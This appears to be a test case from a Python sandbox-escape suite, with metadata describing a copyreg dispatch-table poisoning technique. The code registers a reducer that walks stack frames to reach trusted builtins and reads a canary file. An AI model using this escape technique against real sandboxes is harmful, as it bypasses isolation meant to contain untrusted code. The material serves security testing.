# id: copyreg-dispatch-poison
# family: deserialisation
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: copy keeps copyreg's table of reducers; an entry made by the guest is called by every later copy of that type
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import copy


def reducer(instance):
    try:
        raise LookupError
    except LookupError as error:
        trusted = error.__traceback__.tb_frame.f_back
    print(trusted.f_builtins["open"]("canary.txt").read())
    return "kept as it is"


copy.dispatch_table[enumerate] = reducer
copy.copy(enumerate("abc"))
